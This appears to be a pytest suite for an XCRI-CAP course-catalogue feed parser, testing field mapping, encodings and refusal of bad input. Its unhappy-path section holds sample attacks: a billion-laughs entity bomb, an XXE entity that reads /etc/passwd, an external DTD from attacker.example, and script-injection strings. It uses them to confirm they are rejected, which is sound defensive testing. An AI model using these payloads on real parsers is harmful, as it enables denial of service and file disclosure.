"""XCRI-CAP 1.2 import: the four real feeds, field mapping, and hostile or broken input."""

import time
from datetime import date
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from service.courses.logic import validate_catalogue
from service.courses.schemas import CourseIn, PresentationIn
from service.courses.xcri.parse import ParsedFeed, parse_xcri
from service.courses.xcri.safe_xml import FeedError
from service.courses.xcri.values import bounded_int, cost_in_pence
from service.courses.xcri.vocabularies import level_from_code, level_from_text

FIXTURES = Path(__file__).parents[1] / "fixtures" / "xcri"
DEMO_FEED = Path(__file__).parents[2] / "catalogue" / "feeds" / "cornwall_college_demo.xml"
CORNWALL = FIXTURES / "cornwall_college_xcri_cap_1.2_2017-05-16.xml"
OPEN_UNIVERSITY = FIXTURES / "open_university_xcri_cap_1.2_example.xml"
POPPLETON = FIXTURES / "poppleton_pg_generic_xcri_cap_1.2_example.xml"
WYCHWOLF = FIXTURES / "wychwolf_moodle_xcri_cap_1.2_sample.xml"
CORNWALL_COURSE = "http://www.cornwall.ac.uk/online/course/"
CORNWALL_OFFERING = "http://www.cornwall.ac.uk/online/offering/"


@pytest.fixture(scope="module")
def cornwall() -> ParsedFeed:
    return parse_xcri(CORNWALL.read_bytes())


def course_by_ref(feed: ParsedFeed, ref: str) -> CourseIn:
    return next(c for c in feed.catalogue.courses if c.ref == ref)


def only_course(parsed: ParsedFeed) -> CourseIn:
    assert len(parsed.catalogue.courses) == 1
    return parsed.catalogue.courses[0]


def only_presentation(course: CourseIn) -> PresentationIn:
    assert len(course.presentations) == 1
    return course.presentations[0]


def feed(
    course: str = "",
    *,
    provider: str = "",
    declaration: str = '<?xml version="1.0" encoding="UTF-8"?>',
) -> str:
    """A minimal XCRI-CAP 1.2 document around one course."""
    return f"""{declaration}
<catalog xmlns="http://xcri.org/profiles/1.2/catalog" xmlns:dc="http://purl.org/dc/elements/1.1/"
    xmlns:dcterms="http://purl.org/dc/terms/" xmlns:mlo="http://purl.org/net/mlo"
    xmlns:xhtml="http://www.w3.org/1999/xhtml"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" generated="2024-01-01T00:00:00Z">
  <provider>
    <dc:identifier xsi:type="courseDataProgramme:ukprn">10012345</dc:identifier>
    <dc:title>Test College</dc:title>
    {provider}
    <course>
      <dc:identifier>C1</dc:identifier>
      <dc:title>Test course</dc:title>
      {course}
    </course>
    <mlo:location><mlo:postcode>AB1 2CD</mlo:postcode></mlo:location>
  </provider>
</catalog>"""


def parse_course(course_xml: str) -> tuple[CourseIn, list[str]]:
    parsed = parse_xcri(feed(course_xml).encode())
    return parsed.catalogue.courses[0], parsed.warnings


def parse_presentation(presentation_xml: str) -> tuple[PresentationIn, list[str]]:
    course, warnings = parse_course(
        f"<presentation><dc:identifier>P1</dc:identifier>{presentation_xml}</presentation>"
    )
    return only_presentation(course), warnings


# --- the real feeds -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "courses", "presentations"),
    [(CORNWALL, 407, 576), (OPEN_UNIVERSITY, 2, 4), (WYCHWOLF, 1, 1), (POPPLETON, 1, 1)],
)
def test_every_real_feed_parses_with_its_course_and_presentation_counts(
    path: Path, courses: int, presentations: int
) -> None:
    catalogue = parse_xcri(path.read_bytes()).catalogue
    assert len(catalogue.courses) == courses
    assert sum(len(c.presentations) for c in catalogue.courses) == presentations


def test_every_fixture_file_is_covered() -> None:
    assert sorted(FIXTURES.glob("*.xml")) == sorted(
        [CORNWALL, OPEN_UNIVERSITY, POPPLETON, WYCHWOLF]
    )


@pytest.mark.parametrize("path", [CORNWALL, OPEN_UNIVERSITY, POPPLETON, WYCHWOLF])
def test_every_course_of_the_real_feeds_passes_validation(path: Path) -> None:
    catalogue = parse_xcri(path.read_bytes()).catalogue
    valid, rejected = validate_catalogue(catalogue)
    assert rejected == []
    assert len(valid) == len(catalogue.courses)


def test_cornwall_provider_is_identified_by_its_ukprn(cornwall: ParsedFeed) -> None:
    assert cornwall.provider_ukprn == "10001696"
    assert cornwall.provider_name == "Cornwall College"
    assert cornwall.catalogue.provider_name == "Cornwall College"


def test_cornwall_engineering_diploma(cornwall: ParsedFeed) -> None:
    course = course_by_ref(cornwall, CORNWALL_COURSE + "211418")
    assert course.title == "Engineering Technology EMTA Diploma Level 2"
    assert course.rqf_level == "2"
    assert course.url == "http://www.cornwall.ac.uk/course/211418"
    assert course.description.startswith("This course is for anyone who has an interest in")
    assert "\n\nWorking safely in an engineering environment\n\n" in course.description
    assert "Contact us for more information" not in course.description  # teachingStrategy
    assert course.learning_outcomes.startswith("Upon successful completion of this course")
    presentation = only_presentation(course)
    assert presentation.ref == CORNWALL_OFFERING + "16PSEP2MECH"
    assert presentation.study_mode == "full_time"
    assert presentation.attendance_pattern == "daytime"
    assert presentation.delivery == "classroom"
    assert presentation.venue_postcode == "PL6 7FH"
    assert presentation.cost_pence is None  # the feed says amount="TBC"
    assert presentation.starts_on is None


def test_cornwall_creative_writing_has_dates_and_a_cost(cornwall: ParsedFeed) -> None:
    course = course_by_ref(cornwall, CORNWALL_COURSE + "214945")
    assert course.title == "Creative Writing (JP)"
    assert course.rqf_level is None  # educationLevel X: not applicable, no warning
    presentation = only_presentation(course)
    # dtf is one day before the text: the feed turned local midnight into UTC; the text wins.
    assert presentation.starts_on == date(2017, 4, 26)
    assert presentation.ends_on == date(2017, 5, 24)
    assert presentation.cost_pence == 5000
    assert presentation.attendance_pattern == "daytime"
    assert presentation.venue_postcode == "TR15 3RD"
    about_course = [w for w in cornwall.warnings if w.startswith(f"course {course.ref!r}")]
    assert about_course == [
        f"course {course.ref!r}, presentation {presentation.ref!r}: start: dtf 2017-04-25 "
        "is the day before the text '26 April 2017'; used the text",
        f"course {course.ref!r}, presentation {presentation.ref!r}: end: dtf 2017-05-23 "
        "is the day before the text '24 May 2017'; used the text",
    ]


def test_cornwall_degree_full_fee_comes_from_the_costs_extension(cornwall: ParsedFeed) -> None:
    course = course_by_ref(cornwall, CORNWALL_COURSE + "216342")
    assert course.title == "BSc (Hons) Horticulture (Garden and Landscape Design)"
    assert course.rqf_level == "6"
    presentation = only_presentation(course)
    assert presentation.cost_pence == 800_000
    assert presentation.study_mode == "part_time"
    assert presentation.starts_on == date(2016, 9, 12)  # the text; dtf says the 11th


def test_cornwall_work_based_apprenticeship_with_unknown_pattern(cornwall: ParsedFeed) -> None:
    course = course_by_ref(cornwall, CORNWALL_COURSE + "215922")
    assert course.title == "Hairdressing CG Diploma Level 3"
    assert course.rqf_level == "3"
    presentation = only_presentation(course)
    assert presentation.delivery == "work_based"
    assert presentation.attendance_pattern is None  # "UNK" is explicit, so no warning


@pytest.mark.parametrize(("course_id", "level"), [("212196", "E1"), ("212194", "E1")])
def test_cornwall_bare_entry_level_takes_its_sub_level_from_the_title(
    cornwall: ParsedFeed, course_id: str, level: str
) -> None:
    assert course_by_ref(cornwall, CORNWALL_COURSE + course_id).rqf_level == level


def test_cornwall_levels_and_subjects(cornwall: ParsedFeed) -> None:
    levels = {c.rqf_level for c in cornwall.catalogue.courses}
    assert levels == {None, "E1", "E2", "E3", "1", "2", "3", "4", "5", "6", "7"}
    course = course_by_ref(cornwall, CORNWALL_COURSE + "104236")
    assert course.title == "ICT Functional Skills City & Guilds Level 2"
    assert course.subjects == [
        "vocation",
        "hands-on",
        "numeracy",
        "literacy",
        "Information & Communication Technology",
    ]


def test_cornwall_warnings_are_only_the_dtf_a_day_early(cornwall: ParsedFeed) -> None:
    assert len(cornwall.warnings) == 169
    assert all("is the day before the text" in w for w in cornwall.warnings)


@pytest.mark.parametrize(
    ("element", "expected", "warning"),
    [
        ('<mlo:start dtf="2017-04-25">26 April 2017</mlo:start>', date(2017, 4, 26), "the text"),
        ('<mlo:start dtf="2017-04-24">26 April 2017</mlo:start>', date(2017, 4, 24), "the dtf"),
        ('<mlo:start dtf="2017-04-27">26 April 2017</mlo:start>', date(2017, 4, 27), "the dtf"),
    ],
)
def test_dtf_a_day_before_the_text_is_a_timezone_slip_and_the_text_wins(
    element: str, expected: date, warning: str
) -> None:
    presentation, warnings = parse_presentation(element)
    assert presentation.starts_on == expected
    assert len(warnings) == 1 and warnings[0].endswith(warning)


def test_malformed_venue_postcode_is_dropped_with_a_warning_not_the_course() -> None:
    presentation, warnings = parse_presentation(
        "<venue><provider><mlo:location><mlo:postcode>Truro</mlo:postcode></mlo:location>"
        "</provider></venue>"
    )
    assert presentation.venue_postcode is None
    assert warnings == [
        "course 'C1', presentation 'P1': venue postcode 'Truro' is not a UK postcode; left empty"
    ]
    catalogue = parse_xcri(
        feed(
            "<presentation><dc:identifier>P1</dc:identifier><venue><provider><mlo:location>"
            "<mlo:postcode>Truro</mlo:postcode></mlo:location></provider></venue></presentation>"
        ).encode()
    ).catalogue
    valid, rejected = validate_catalogue(catalogue)
    assert rejected == [] and len(valid) == 1


def test_open_university_feed() -> None:
    parsed = parse_xcri(OPEN_UNIVERSITY.read_bytes())
    assert parsed.provider_ukprn is None
    fiction, history = parsed.catalogue.courses
    assert fiction.ref == "http://data.open.ac.uk/course/a174"
    assert fiction.title == "Start writing fiction"
    assert fiction.rqf_level == "4"  # from the SCQF 7 credit level
    assert fiction.qualification == "May lead to a variety of qualifications"
    first = fiction.presentations[0]
    assert (first.ref, first.starts_on, first.ends_on) == (
        "A1742011E",
        date(2011, 5, 7),
        date(2011, 8, 31),
    )
    assert first.cost_pence == 15500  # "UK fee: GBP155.00; Ireland fee: GBP340.00; ..."
    assert first.apply_url == "http://www.open.ac.uk/study/"
    assert history.ref == "B01"
    assert history.rqf_level is None
    assert any("could not map 'Undergraduate'" in w for w in parsed.warnings)
    assert any("attendanceMode 'Self-study' is not a known value" in w for w in parsed.warnings)


def test_poppleton_feed_uses_the_internal_id_and_xhtml_description() -> None:
    parsed = parse_xcri(POPPLETON.read_bytes())
    assert parsed.provider_ukprn == "10099999"
    course = only_course(parsed)
    assert course.ref == "PG064"
    assert course.rqf_level == "7"
    assert course.qualification == "MBA Business and Marketing"
    assert course.subjects == [
        "Management studies",
        "Marketing",
        "Business Administration and Management",
    ]
    assert course.description.startswith(
        "MBA in Business and Marketing\n\nThis professional masters degree"
    )
    presentation = only_presentation(course)
    assert presentation.places == 50
    assert presentation.study_mode == "part_time"
    assert presentation.attendance_pattern == "daytime"
    assert presentation.delivery == "classroom"
    assert presentation.venue_postcode == "PP99 1PP"
    assert presentation.starts_on == date(2015, 9, 1)
    assert presentation.cost_pence is None
    assert parsed.warnings == [
        "course 'PG064', presentation 'http://www.poppleton.ac.uk/postgraduate/mba': "
        "cost 'GBP6,000 per stage' is not a single amount in pounds; left empty"
    ]


def test_wychwolf_feed_is_free_online_and_trusts_dtf_over_a_mistyped_text() -> None:
    parsed = parse_xcri(WYCHWOLF.read_bytes())
    course = only_course(parsed)
    assert course.title == "Creating a webcomic"
    assert "W101" not in course.description  # metadataKeywords are not description
    presentation = only_presentation(course)
    assert presentation.cost_pence == 0
    assert presentation.delivery == "online"
    assert presentation.venue_postcode is None  # online, so not the provider's address
    assert (presentation.starts_on, presentation.ends_on) == (date(2012, 8, 1), date(2012, 8, 31))
    assert len(parsed.warnings) == 1 and "'31 August 2011'" in parsed.warnings[0]


@pytest.mark.parametrize("path", [CORNWALL, OPEN_UNIVERSITY, POPPLETON, WYCHWOLF])
def test_parsing_is_deterministic(path: Path) -> None:
    data = path.read_bytes()
    assert msgspec.json.encode(parse_xcri(data)) == msgspec.json.encode(parse_xcri(data))


@pytest.mark.parametrize("path", [CORNWALL, OPEN_UNIVERSITY, POPPLETON, WYCHWOLF])
def test_no_markup_survives_in_text(path: Path) -> None:
    for course in parse_xcri(path.read_bytes()).catalogue.courses:
        for text in (course.title, course.description, course.learning_outcomes):
            assert "<p>" not in text and "</" not in text and "<div" not in text
            assert "&amp;" not in text and "&nbsp;" not in text
            assert "  " not in text and "\xa0" not in text
            assert not text.startswith((" ", "\n")) and not text.endswith((" ", "\n"))


def test_trimmed_demo_feed_parses_and_matches_the_full_feed(cornwall: ParsedFeed) -> None:
    text = DEMO_FEED.read_text(encoding="utf-8")
    assert "Open Government" in text.split("<catalog", 1)[0]
    demo = parse_xcri(DEMO_FEED.read_bytes())
    assert 50 <= len(demo.catalogue.courses) <= 70
    assert demo.provider_ukprn == "10001696"
    assert demo.catalogue.courses == cornwall.catalogue.courses[: len(demo.catalogue.courses)]
    valid, rejected = validate_catalogue(demo.catalogue)
    assert rejected == [] and len(valid) == len(demo.catalogue.courses)


# --- mapping details on small feeds -------------------------------------------------------------


@pytest.mark.parametrize(
    ("element", "expected"),
    [
        ('<attendancePattern identifier="DT">Daytime</attendancePattern>', "daytime"),
        ("<attendancePattern>Daytime</attendancePattern>", "daytime"),
        ("<attendancePattern>EV</attendancePattern>", "evening"),
        ("<attendancePattern>Evening</attendancePattern>", "evening"),
        ('<attendancePattern identifier="TW">Twilight</attendancePattern>', "evening"),
        ("<attendancePattern>Weekend</attendancePattern>", "weekend"),
        ("<attendancePattern>Day/Block Release</attendancePattern>", "day_release"),
        ("<attendancePattern>DR</attendancePattern>", "day_release"),
        ("<attendancePattern>Self-paced</attendancePattern>", "self_paced"),
        ('<attendancePattern identifier="CS">Customised</attendancePattern>', "self_paced"),
    ],
)
def test_attendance_pattern_vocabulary(element: str, expected: str) -> None:
    presentation, warnings = parse_presentation(element)
    assert presentation.attendance_pattern == expected
    assert warnings == []


@pytest.mark.parametrize(
    ("element", "field", "expected"),
    [
        ('<studyMode identifier="FT">Full time</studyMode>', "study_mode", "full_time"),
        ("<studyMode>Part Time</studyMode>", "study_mode", "part_time"),
        ('<studyMode identifier="FL">Flexible</studyMode>', "study_mode", "flexible"),
        ('<attendanceMode identifier="CM">Campus</attendanceMode>', "delivery", "classroom"),
        ("<attendanceMode>Mixed mode</attendanceMode>", "delivery", "blended"),
        ("<attendanceMode>DA</attendanceMode>", "delivery", "blended"),
        ("<attendanceMode>Online (no attendance)</attendanceMode>", "delivery", "online"),
        ("<attendanceMode>Work-based</attendanceMode>", "delivery", "work_based"),
    ],
)
def test_study_mode_and_delivery_vocabularies(element: str, field: str, expected: str) -> None:
    presentation, warnings = parse_presentation(element)
    assert getattr(presentation, field) == expected
    assert warnings == []


def test_unknown_vocabulary_value_is_left_empty_with_a_warning() -> None:
    presentation, warnings = parse_presentation("<attendancePattern>Lunchtimes</attendancePattern>")
    assert presentation.attendance_pattern is None
    assert warnings == [
        "course 'C1', presentation 'P1': attendancePattern 'Lunchtimes' is not a known value; "
        "left empty"
    ]


@pytest.mark.parametrize(
    ("text", "pence"),
    [
        ("£1,200.00", 120_000),
        ("Free", 0),
        ("free", 0),
        ("0", 0),
        ("£0.00", 0),
        ("GBP155.00", 15_500),
        ("£12.5", 1_250),
        ("  £ 75  ", 7_500),
        ("UK fee: GBP155.00; Ireland fee: GBP340.00", 15_500),
        ("£50 per session", None),
        ("£100 or £200", None),
        ("Please call", None),
    ],
)
def test_cost_in_pence(text: str, pence: int | None) -> None:
    assert cost_in_pence(text) == pence


def test_unreadable_cost_warns_and_tbc_does_not() -> None:
    unreadable, warnings = parse_presentation("<mlo:cost>£50 per session</mlo:cost>")
    assert unreadable.cost_pence is None and len(warnings) == 1
    assert "cost '£50 per session' is not a single amount" in warnings[0]
    pending, warnings = parse_presentation("<mlo:cost>TBC</mlo:cost>")
    assert pending.cost_pence is None and warnings == []


@pytest.mark.parametrize(
    ("value", "level"),
    [
        ("3", "3"),
        ("Level 3", "3"),
        ("level 8", "8"),
        ("L2", "2"),
        ("E3", "E3"),
        ("Entry Level 2", "E2"),
        ("Entry 1", "E1"),
        ("NQF Level 4", "4"),
        ("QCF 2", "2"),
        ("RQF level 6", "6"),
        ("EQF level 4", "3"),
        ("EQF 5", None),
        ("SCQF 7", "4"),
        ("SCQF 2", "E2"),
        ("ECTS Level 5", "5"),
        ("Postgraduate", "7"),
        ("Undergraduate", None),
        ("9", None),
        ("X", "n/a"),
        ("E", "entry"),
    ],
)
def test_level_from_code(value: str, level: str | None) -> None:
    assert level_from_code(value) == level


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("Diploma Level 2", "2"),
        ("BTEC Level 3 Extended Diploma", "3"),
        ("Apprenticeship - Level 2", "2"),
        ("English Functional Skills Entry Level 1", "E1"),
        ("Plumbing L2", "2"),
        ("EQF level 4 award", "3"),
        ("Award Level 1 and Level 2", None),
        ("Recreational Courses", None),
        ("Creating a webcomic", None),
    ],
)
def test_level_from_text(text: str, level: str | None) -> None:
    assert level_from_text(text) == level


def test_level_element_wins_and_title_is_only_a_fallback() -> None:
    stated, _ = parse_course("<mlo:level>Level 3</mlo:level><dc:type>Level 2 course</dc:type>")
    assert stated.rqf_level == "3"
    from_type, warnings = parse_course("<dc:type>Certificate Level 2</dc:type>")
    assert from_type.rqf_level == "2" and warnings == []


def test_unmapped_and_bare_entry_levels_warn() -> None:
    unmapped, warnings = parse_course("<mlo:level>Undergraduate</mlo:level>")
    assert unmapped.rqf_level is None
    assert warnings == [
        "course 'C1': level: could not map 'Undergraduate' to an RQF level; left empty"
    ]
    bare_entry, warnings = parse_course("<mlo:level>Entry</mlo:level>")
    assert bare_entry.rqf_level is None
    assert "Entry level without a sub-level" in warnings[0]


@pytest.mark.parametrize(
    ("element", "expected", "warns"),
    [
        ('<mlo:start dtf="2012-08-01">1 August 2012</mlo:start>', date(2012, 8, 1), False),
        ('<mlo:start dtf="2012-08-01T09:30:00Z">Wednesday</mlo:start>', date(2012, 8, 1), False),
        ("<mlo:start>2011-05-07</mlo:start>", date(2011, 5, 7), False),
        ("<mlo:start>1 Aug 2012</mlo:start>", date(2012, 8, 1), False),
        ("<mlo:start>5th September 2016</mlo:start>", date(2016, 9, 5), False),
        ('<mlo:start dtf="2014-09">September 2014</mlo:start>', None, True),
        ("<mlo:start>Any time</mlo:start>", None, True),
        ('<mlo:start dtf="2012-02-30"/>', None, True),
    ],
)
def test_start_dates(element: str, expected: date | None, warns: bool) -> None:
    presentation, warnings = parse_presentation(element)
    assert presentation.starts_on == expected
    assert bool(warnings) == warns


@pytest.mark.parametrize(
    ("element", "places", "warns"),
    [("<mlo:places>50</mlo:places>", 50, False), ("<mlo:places>Limited</mlo:places>", None, True)],
)
def test_places(element: str, places: int | None, warns: bool) -> None:
    presentation, warnings = parse_presentation(element)
    assert presentation.places == places
    assert bool(warnings) == warns


def test_venue_postcode_falls_back_to_the_provider_and_skips_placeholders() -> None:
    no_venue, _ = parse_presentation("<attendanceMode>CM</attendanceMode>")
    assert no_venue.venue_postcode == "AB1 2CD"
    placeholder, _ = parse_presentation(
        "<venue><provider><mlo:location><mlo:postcode>ZZ99 9ZZ</mlo:postcode></mlo:location>"
        "</provider></venue>"
    )
    assert placeholder.venue_postcode == "AB1 2CD"


def test_escaped_html_with_entities_becomes_clean_paragraphs() -> None:
    course, _ = parse_course(
        "<dc:description><![CDATA[<div><p>Fish &amp; chips&nbsp;&nbsp;today,"
        "  <b>hot</b></p><script>alert(1)</script><ul><li>One</li><li>Two&#39;s</li></ul>"
        "</div>]]></dc:description>"
    )
    assert course.description == "Fish & chips today, hot\n\nOne\n\nTwo's"


def test_xhtml_child_elements_become_clean_paragraphs() -> None:
    course, _ = parse_course(
        "<dc:description><xhtml:div><xhtml:p>First   <xhtml:em>part</xhtml:em>.</xhtml:p>"
        "<xhtml:p>Second\n line</xhtml:p></xhtml:div></dc:description>"
        "<learningOutcome><div xmlns='http://www.w3.org/1999/xhtml'><p>Weld</p><p>Cut</p></div>"
        "</learningOutcome>"
    )
    assert course.description == "First part.\n\nSecond line"
    assert course.learning_outcomes == "Weld\n\nCut"


def test_deeply_nested_markup_does_not_exhaust_the_stack() -> None:
    depth = 20_000
    nested = "<xhtml:div>" * depth + "deep" + "</xhtml:div>" * depth
    course, _ = parse_course(f"<dc:description>{nested}</dc:description>")
    assert course.description == "deep"


def test_namespaces_are_matched_by_uri_not_prefix() -> None:
    document = """<?xml version="1.0"?>
<x:catalog xmlns:x="http://xcri.org/profiles/1.2/catalog" xmlns:d="http://purl.org/dc/terms/"
           xmlns:m="http://purl.org/net/mlo">
  <x:provider><d:title>Prefixless College</d:title>
    <x:course><d:identifier>K1</d:identifier><d:title>Knitting</d:title><m:level>E2</m:level>
      <x:presentation><d:identifier>K1-a</d:identifier><m:cost>£10</m:cost></x:presentation>
    </x:course>
  </x:provider>
</x:catalog>"""
    parsed = parse_xcri(document.encode())
    course = only_course(parsed)
    assert (parsed.provider_name, course.ref, course.title) == (
        "Prefixless College",
        "K1",
        "Knitting",
    )
    assert course.rqf_level == "E2"
    assert only_presentation(course).cost_pence == 1000


def test_vendor_extensions_and_missing_optional_fields_are_tolerated() -> None:
    course, warnings = parse_course(
        '<brand xmlns="https://example.ac.uk/brand">Ours</brand>'
        '<ext:anything xmlns:ext="urn:vendor"><ext:deep a="1"/></ext:anything>'
        "<presentation><dc:identifier>P1</dc:identifier>"
        '<campus xmlns="https://example.ac.uk/campus">North</campus></presentation>'
    )
    assert warnings == []
    assert course.description == "" and course.subjects == [] and course.rqf_level is None
    presentation = only_presentation(course)
    assert presentation == PresentationIn(ref="P1", venue_postcode="AB1 2CD")


def test_esco_skill_uris_given_as_subjects() -> None:
    uri = "http://data.europa.eu/esco/skill/0a2d2b6e-7b2e-4b8e-9f6d-3f0f4d7d8a1c"
    course, _ = parse_course(
        f'<dc:subject identifier="{uri}">weld metal</dc:subject><dc:subject>{uri}</dc:subject>'
    )
    assert course.skill_uris == [uri]
    assert course.subjects == ["weld metal"]


def test_non_web_links_are_dropped_with_a_warning() -> None:
    course, warnings = parse_course("<mlo:url>javascript:alert(1)</mlo:url>")
    assert course.url is None
    assert warnings == ["course 'C1': url 'javascript:alert(1)' is not an http(s) link; left empty"]


def test_only_the_first_provider_is_read() -> None:
    second = "</provider><provider><dc:title>Other College</dc:title><course><dc:identifier>Z"
    document = feed(provider="").replace(
        "</provider>", second + "</dc:identifier></course></provider>"
    )
    parsed = parse_xcri(document.encode())
    assert [c.ref for c in parsed.catalogue.courses] == ["C1"]
    assert parsed.warnings == ["the feed lists 2 providers; only the first (Test College) was read"]


def test_ukprn_needs_the_ukprn_type_or_its_eight_digit_shape() -> None:
    assert parse_xcri(feed().encode()).provider_ukprn == "10012345"
    untyped = feed().replace(' xsi:type="courseDataProgramme:ukprn"', "")
    assert parse_xcri(untyped.encode()).provider_ukprn == "10012345"
    not_ukprn = feed().replace(">10012345<", ">ABC<")
    assert parse_xcri(not_ukprn.encode()).provider_ukprn is None


def test_a_course_without_id_or_title_is_parsed_and_left_to_validation() -> None:
    document = (
        feed()
        .replace("<dc:identifier>C1</dc:identifier>", "")
        .replace("<dc:title>Test course</dc:title>", "")
    )
    catalogue = parse_xcri(document.encode()).catalogue
    valid, rejected = validate_catalogue(catalogue)
    assert valid == []
    assert rejected[0].reasons == ["ref: must not be empty", "title: must not be empty"]


# --- encodings ----------------------------------------------------------------------------------


def test_latin1_feed_with_a_pound_sign_in_the_cost() -> None:
    document = feed(
        "<presentation><dc:identifier>P1</dc:identifier><mlo:cost>£1,200.00</mlo:cost>"
        "</presentation>",
        declaration='<?xml version="1.0" encoding="ISO-8859-1"?>',
    )
    data = document.encode("latin-1")
    assert b"\xa3" in data
    assert only_presentation(parse_xcri(data).catalogue.courses[0]).cost_pence == 120_000


def test_latin1_declared_feed_with_windows_1252_quotes() -> None:
    document = feed(declaration="<?xml version='1.0' encoding='iso-8859-1'?>").replace(
        "Test course", "“Smart” course – £5"
    )
    course = parse_xcri(document.encode("windows-1252")).catalogue.courses[0]
    assert course.title == "“Smart” course – £5"


def test_windows_1252_utf16_and_bom_are_read() -> None:
    cp1252 = feed(declaration='<?xml version="1.0" encoding="windows-1252"?>')
    assert only_course(parse_xcri(cp1252.replace("Test", "Café").encode("cp1252"))).title == (
        "Café course"
    )
    utf16 = feed(declaration='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16")
    assert only_course(parse_xcri(utf16)).title == "Test course"
    assert only_course(parse_xcri(b"\xef\xbb\xbf" + feed().encode())).title == "Test course"


# --- unhappy paths ------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE catalog [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<catalog xmlns="http://xcri.org/profiles/1.2/catalog" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <provider><dc:title>&lol9;</dc:title></provider>
</catalog>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE catalog [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<catalog xmlns="http://xcri.org/profiles/1.2/catalog" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <provider><dc:title>&secret;</dc:title></provider>
</catalog>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE catalog SYSTEM "http://attacker.example/evil.dtd">
<catalog xmlns="http://xcri.org/profiles/1.2/catalog"/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused_without_expanding(data: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(FeedError, match="DTD or entity declaration") as refused:
        parse_xcri(data)
    assert time.perf_counter() - started < 1
    assert "lol" not in str(refused.value) and "root:" not in str(refused.value)


def test_malformed_xml_is_refused_with_its_position() -> None:
    with pytest.raises(FeedError, match=r"not well-formed XML: .*line 2"):
        parse_xcri(b'<?xml version="1.0"?>\n<catalog><provider></catalog>')


@pytest.mark.parametrize(
    "page",
    [
        b"<!DOCTYPE html>\n<html><head><title>Courses</title></head><body></body></html>",
        b"\n  <html lang='en'><body><p>Moved</body></html>",
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    ],
)
def test_an_html_page_is_refused(page: bytes) -> None:
    with pytest.raises(FeedError, match="HTML page, not an XCRI-CAP feed"):
        parse_xcri(page)


def test_another_xml_format_is_refused() -> None:
    with pytest.raises(FeedError, match="root element is <rss>"):
        parse_xcri(b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>')
    with pytest.raises(FeedError, match="root element is <catalog>"):
        parse_xcri(b'<catalog xmlns="http://xcri.org/profiles/catalog"/>')


@pytest.mark.parametrize("data", [b"", b"   \n\t", b"\xef\xbb\xbf"])
def test_empty_input_is_refused(data: bytes) -> None:
    with pytest.raises(FeedError):
        parse_xcri(data)


def test_undecodable_bytes_and_unknown_encodings_are_refused() -> None:
    with pytest.raises(FeedError, match="not well-formed"):
        parse_xcri(feed().replace("Test course", "Caf\udcff").encode("utf-8", "surrogateescape"))
    with pytest.raises(FeedError, match="encoding"):
        parse_xcri(feed(declaration='<?xml version="1.0" encoding="klingon-8"?>').encode())


def test_a_feed_without_provider_has_no_courses() -> None:
    parsed = parse_xcri(b'<catalog xmlns="http://xcri.org/profiles/1.2/catalog"/>')
    assert parsed.catalogue.courses == [] and parsed.warnings


def test_feed_error_is_a_value_error() -> None:
    assert issubclass(FeedError, ValueError)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2_000))
def test_arbitrary_bytes_either_parse_or_raise_feed_error(data: bytes) -> None:
    try:
        parse_xcri(data)
    except FeedError:
        pass


@settings(max_examples=100, deadline=None)
@given(st.integers(min_value=0, max_value=WYCHWOLF.stat().st_size))
def test_truncated_feeds_either_parse_or_raise_feed_error(cut: int) -> None:
    try:
        parse_xcri(WYCHWOLF.read_bytes()[:cut])
    except FeedError:
        pass


@pytest.mark.parametrize(("digits", "value"), [
    ("0", 0), ("12", 12), ("0" * 5000 + "7", 7), ("9" * 15, 10**15 - 1), ("9" * 16, 10**15),
    ("9" * 5000, 10**15),
])
def test_bounded_int_reads_any_number_of_digits(digits, value):
    assert bounded_int(digits) == value


def test_cost_of_thousands_of_digits_is_over_any_maximum():
    assert cost_in_pence("£" + "9" * 5000) == 10**15 * 100
    assert cost_in_pence("UK fee: £1" + ",999" * 2000 + ".50") == 10**15 * 100 + 50
